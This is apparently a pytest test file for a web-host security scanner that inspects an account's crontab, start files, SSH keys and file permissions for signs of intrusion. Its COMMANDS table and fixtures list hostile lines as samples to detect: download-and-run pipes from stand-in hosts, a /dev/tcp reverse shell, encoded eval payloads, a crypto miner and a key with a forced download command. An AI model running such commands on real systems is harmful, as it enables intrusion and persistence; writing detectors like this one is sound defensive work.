"""The account of a site: what it runs by itself, who may come in, and who may write what."""

import base64
import hashlib
from collections.abc import Collection, Mapping, Sequence
from pathlib import Path
from typing import cast

import pytest

from scanners.account import entries, keys
from scanners.account.commands import rule_of
from scanners.account.examiner import AccountExaminer
from sentry.domain.access import Access
from sentry.domain.errors import HostError, HostLost
from sentry.domain.finding import Finding, FindingClass, Place
from sentry.domain.site import CheckOptions, Site
from sentry.domain.tree_entry import EntryKind, TreeEntry
from sentry.ports import Host
from sentry.ports.hosts import Outcome
from tests.fakes.scene import planted, scene_of

SITE = Site(
    key="shop",
    url="https://shop.example/",
    checks=(CheckOptions(kind="http"),),
    access=Access(docroot="/srv/shop", local=True),
)
KEY = b"ssh-ed25519 " + base64.b64encode(b"inert key of a test") + b" somebody@example.net"
FINGERPRINT = "SHA256:" + base64.b64encode(hashlib.sha256(b"inert key of a test").digest()).decode().rstrip("=")


class AccountHost:
    """Answers two commands and has some files."""

    def __init__(
        self,
        crontab: bytes,
        files: Mapping[bytes, bytes],
        error: HostError | None = None,
        unreadable: Collection[bytes] = (),
        complaints: bytes = b"find: No such file or directory",
    ) -> None:
        self._complaints = complaints
        self._unreadable = unreadable
        self._crontab = crontab
        self._files = files
        self._error = error

    def run(self, command: Sequence[str | bytes], *, within_s: float, at_most_bytes: int) -> Outcome:
        if self._error is not None:
            raise self._error
        if "find" in command:
            assert "LC_ALL=C" in command
            asked = [path for path in command if isinstance(path, bytes)]
            there = [path + b"\0" for path in asked if path in self._files or path in self._unreadable]
            return Outcome(1, b"".join(there), self._complaints)
        if command[0] == "printenv":
            return Outcome(0, b"/home/shop\n", b"")
        return Outcome(0, self._crontab, b"") if self._crontab else Outcome(1, b"", b"no crontab for shop")

    def read(self, path: bytes, at_most_bytes: int) -> bytes:
        if path not in self._files:
            raise HostError("not there")
        return self._files[path]


def looked(
    tmp_path: Path, crontab: bytes = b"", files: Mapping[bytes, bytes] | None = None, known: Sequence[str] = ()
) -> list[Finding]:
    """Returns what an account with these files shows."""
    host = cast("Host", AccountHost(crontab, files or {}))
    return list(AccountExaminer(known).examine(scene_of(tmp_path / "www", site=SITE, host=host)))


def rules(found: Sequence[Finding]) -> set[str]:
    """Returns the rules of findings."""
    return {sign.rule for finding in found for sign in finding.signs}


COMMANDS = {
    "a download that is run": (b"curl -fsSL http://192.0.2.7/x | sh", "account_runs_download"),
    "by another shell": (b"wget -q -O - http://evil.example/x | /bin/bash -s", "account_runs_download"),
    "in a shell's brackets": (b"bash <(curl -s http://evil.example/x)", "account_runs_download"),
    "and then run": (b"wget http://evil.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", "account_runs_download"),
    "encoded": (b"echo aW5lcnQ= | base64 -d | bash", "account_runs_hidden"),
    "encoded in php": (b"php -r 'eval(base64_decode(\"aW5lcnQ=\"));'", "account_runs_hidden"),
    "a back door": (b"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "account_back_door"),
    "a miner": (b"./xmrig -o stratum+tcp://pool.example:3333", "account_mines"),
    "a shell again": (b"curl -s http://evil.example/x.txt -o /srv/shop/x.php", "account_fetches_script"),
    "in shared memory": (b"/dev/shm/kworker", "account_runs_from_odd_place"),
    "a hidden folder": (b"/home/shop/.x1/run --quiet", "account_runs_from_odd_place"),
    "by php": (b"php /tmp/a.php", "account_runs_from_odd_place"),
    "a preloaded library": (b"export LD_PRELOAD=/home/shop/a.so", "account_preloads"),
}


@pytest.mark.parametrize(("command", "rule"), COMMANDS.values(), ids=COMMANDS)
def test_command_of_an_intruder_is_seen(command: bytes, rule: str) -> None:
    """Each way of coming back has its rule."""
    assert rule_of(command) == rule


@pytest.mark.parametrize(
    "command",
    [
        b"wget -q -O - https://shop.example/wp-cron.php?doing_wp_cron >/dev/null 2>&1",
        b"curl -s https://shop.example/cron >> /tmp/cron.log",
        b"php /home/shop/public_html/wp-cron.php",
        b"/usr/local/bin/php -q /home/shop/artisan schedule:run",
        b"/home/shop/.acme.sh/acme.sh --cron --home /home/shop/.acme.sh > /dev/null",
        b"tar czf /tmp/backup.tgz /home/shop/public_html",
        b"[ -f ~/.bashrc ] && . ~/.bashrc",
        b'export PATH="$HOME/.local/bin:$PATH"',
        b"eval $(dircolors -b)",
        b"mysqldump shop | gzip > backup.sql.gz",
    ],
)
def test_command_of_an_owner_is_not_seen(command: bytes) -> None:
    """What hosts, updates and people write."""
    assert rule_of(command) == ""


@pytest.mark.promise("002-07")
def test_account_shows_crontab_start_files_and_keys(tmp_path: Path) -> None:
    """Each with its file and line."""
    files = {
        b"/home/shop/.bashrc": b"# mine\ncurl -s http://evil.example/x | bash\n",
        b"/home/shop/.ssh/authorized_keys": b"# keys\n" + KEY + b"\n",
    }

    found = looked(tmp_path, b"# comment\n*/5 * * * * /dev/shm/.x/run\n@reboot php /tmp/a.php\n", files)

    assert rules(found) == {"account_runs_from_odd_place", "account_runs_download", "key"}
    assert {finding.place for finding in found} == {Place.ACCOUNT}
    assert [(finding.path, finding.signs[0].way[0].number) for finding in found] == [
        ("crontab", 2),
        ("crontab", 3),
        ("/home/shop/.ssh/authorized_keys", 2),
        ("/home/shop/.bashrc", 2),
    ]


def test_key_that_is_not_known_is_suspicious(tmp_path: Path) -> None:
    """Once somebody has said which ones are."""
    files = {b"/home/shop/.ssh/authorized_keys": KEY}

    assert rules(looked(tmp_path, files=files, known=[FINGERPRINT])) == set()
    assert rules(looked(tmp_path, files=files, known=["SHA256:another"])) == {"unknown_key"}


def test_key_with_a_command_is_judged_by_the_command() -> None:
    """A key may start something by itself."""
    line = b'command="curl -s http://evil.example/x | sh",no-pty ' + KEY

    assert rules(list(keys.judged(line, "authorized_keys", [FINGERPRINT]))) == {"account_runs_download"}


def test_account_that_cannot_be_asked_is_unknown(tmp_path: Path) -> None:
    """Never green."""
    host = cast("Host", AccountHost(b"", {}, HostError("only files may be fetched")))
    scene = scene_of(tmp_path, site=SITE, host=host)

    assert list(AccountExaminer().examine(scene)) == []
    assert scene.manifest.parts["account"].startswith("unknown: crontab: only files may be fetched")


def test_file_of_the_account_that_may_not_be_read_is_not_taken_for_absent(tmp_path: Path) -> None:
    """A key file that root made unreadable is listed as not looked at, and the part says unknown."""
    hidden = b"/home/shop/.ssh/authorized_keys"
    host = cast("Host", AccountHost(b"", {}, unreadable=[hidden]))
    scene = scene_of(tmp_path, site=SITE, host=host)

    assert list(AccountExaminer().examine(scene)) == []
    assert [(gap.path, gap.why) for gap in scene.manifest.skipped] == [("account", f"{hidden.decode()}: not there")]
    assert scene.manifest.parts["account"] == f"unknown: {hidden.decode()}: not there"


def test_folder_of_keys_that_may_not_be_entered_is_unknown(tmp_path: Path) -> None:
    """What is in it cannot be told from nothing."""
    host = cast("Host", AccountHost(b"", {}, complaints=b"find: '/home/shop/.ssh/rc': Permission denied"))
    scene = scene_of(tmp_path, site=SITE, host=host)

    assert list(AccountExaminer().examine(scene)) == []
    assert scene.manifest.parts["account"] == "unknown: not every file of the account may be looked at"


def test_lost_link_ends_the_examination(tmp_path: Path) -> None:
    """Whoever audits begins anew then."""
    host = cast("Host", AccountHost(b"", {}, HostLost("gone")))

    with pytest.raises(HostLost):
        list(AccountExaminer().examine(scene_of(tmp_path, site=SITE, host=host)))


def test_folder_of_no_site_says_nothing_of_an_account(tmp_path: Path) -> None:
    """The account of whoever audits it is none of its business."""
    host = cast("Host", AccountHost(b"* * * * * /dev/shm/x", {}))
    scene = scene_of(planted(tmp_path, {"a.php": "<?php"}), host=host)

    assert list(AccountExaminer().examine(scene)) == []
    assert "no account" in scene.manifest.parts["account"]


def entry(path: bytes, mode: int = 0o644, kind: EntryKind = EntryKind.FILE, **more: object) -> TreeEntry:
    """Returns a name in a tree."""
    given = {"owner": "shop", "target": b"", **more}
    return TreeEntry(path, kind, 10, mode, str(given["owner"]), "shop", 0, 0, 1, cast("bytes", given["target"]))


ENTRIES = {
    "a script for all": (entry(b"a.php", 0o666), "script_written_by_all"),
    "settings for all": (entry(b".htaccess", 0o646), "script_written_by_all"),
    "a folder for all": (entry(b"uploads", 0o777, EntryKind.FOLDER), "written_by_all"),
    "setuid": (entry(b"a", 0o4755), "runs_as_owner"),
    "settings for the group": (entry(b"wp-config.php", 0o660), "settings_written_by_group"),
    "the root": (entry(b"a", kind=EntryKind.LINK, target=b"/"), "link_to_secrets"),
    "passwords": (entry(b"a.txt", kind=EntryKind.LINK, target=b"../../../etc/passwd"), "link_to_secrets"),
    "a neighbour": (
        entry(b"a.txt", kind=EntryKind.LINK, target=b"/home/other/public_html/wp-config.php"),
        "link_to_secrets",
    ),
    "a pipe": (entry(b"a", kind=EntryKind.OTHER), "no_regular_file"),
    "another's script": (entry(b"x.php", owner="www-data"), "other_owner"),
    "a drop-in": (entry(b"wp-content/object-cache.php"), "drop_in"),
    "a plugin that must be": (entry(b"wp-content/mu-plugins/a.php"), "must_use_plugin"),
}


@pytest.mark.promise("002-08")
@pytest.mark.parametrize(("odd", "rule"), ENTRIES.values(), ids=ENTRIES)
def test_entry_that_others_may_use_is_seen(odd: TreeEntry, rule: str) -> None:
    """Rights, owners and links, and what WordPress runs unasked."""
    usual = [entry(b"index.php"), entry(b"b.php")]

    assert rules(list(entries.judged([*usual, odd], b"/home/shop/www", frozenset()))) == {rule}


@pytest.mark.parametrize(
    "usual",
    [
        entry(b"a.php", 0o664),
        entry(b"uploads", 0o2775, EntryKind.FOLDER),
        entry(b"tmp", 0o1777, EntryKind.FOLDER),
        entry(b"a.php", owner="root"),
        entry(b"a.jpg", owner="www-data"),
        entry(b"a", kind=EntryKind.LINK, target=b"../shared/wp-config.php"),
        entry(b"a", kind=EntryKind.LINK, target=b"/usr/share/wordpress/wp-config.php"),
        entry(b"a", kind=EntryKind.LINK, target=b"/mnt/media"),
    ],
    ids=lambda one: one.path.decode() + oct(one.mode) + one.owner + one.target.decode(),
)
def test_entry_as_hosts_make_them_is_not_seen(usual: TreeEntry) -> None:
    """Groups that share, links of deployments, what root has put there."""
    assert list(entries.judged([entry(b"b.php"), entry(b"c.php"), usual], b"/home/shop/www", frozenset())) == []


def installed(name: bytes, changed_at: float = 1_000, modified_at: float = 500) -> TreeEntry:
    """Returns a script with its times."""
    return TreeEntry(name, EntryKind.FILE, 10, 0o644, "shop", "shop", modified_at, changed_at, 1)


def test_script_made_to_look_old_is_a_hint() -> None:
    """It was changed days after its neighbours, and says that it was not."""
    neighbours = [installed(b"inc/%d.php" % number, 1_000 + number) for number in range(9)]
    days = 10 * 86_400.0

    found = list(entries.judged([*neighbours, installed(b"inc/x.php", days)], b"/srv", frozenset()))

    assert [(finding.path, finding.verdict) for finding in found] == [("inc/x.php", FindingClass.ADVICE)]


@pytest.mark.parametrize(
    "odd",
    [
        [installed(b"inc/x.php", 864_000, 864_000)],
        [installed(b"inc/x.php", 3_000)],
        [installed(b"inc/%d.php" % number, 864_000) for number in range(20, 25)],
        [installed(b"other/x.php", 864_000)],
    ],
    ids=["edited", "soon after", "an update", "alone"],
)
def test_script_with_times_of_work_is_no_hint(odd: list[TreeEntry]) -> None:
    """People edit, and updates change several."""
    neighbours = [installed(b"inc/%d.php" % number) for number in range(9)]

    assert list(entries.judged([*neighbours, *odd], b"/srv", frozenset())) == []


def test_known_drop_in_is_not_listed() -> None:
    """What is as it was published needs no look."""
    path = b"wp-content/db.php"

    assert list(entries.judged([entry(path)], b"/srv", frozenset({path}))) == []


def test_many_of_a_kind_are_counted() -> None:
    """A report of ten thousand lines is read by nobody."""
    found = list(entries.judged([entry(b"%d.php" % number, 0o666) for number in range(300)], b"/srv", frozenset()))

    assert len(found) == entries.MOST_OF_A_RULE + 1
    assert found[-1].signs[0].detail == "and 250 more, of which only this is said"
    assert found[0].verdict is FindingClass.EXPOSED
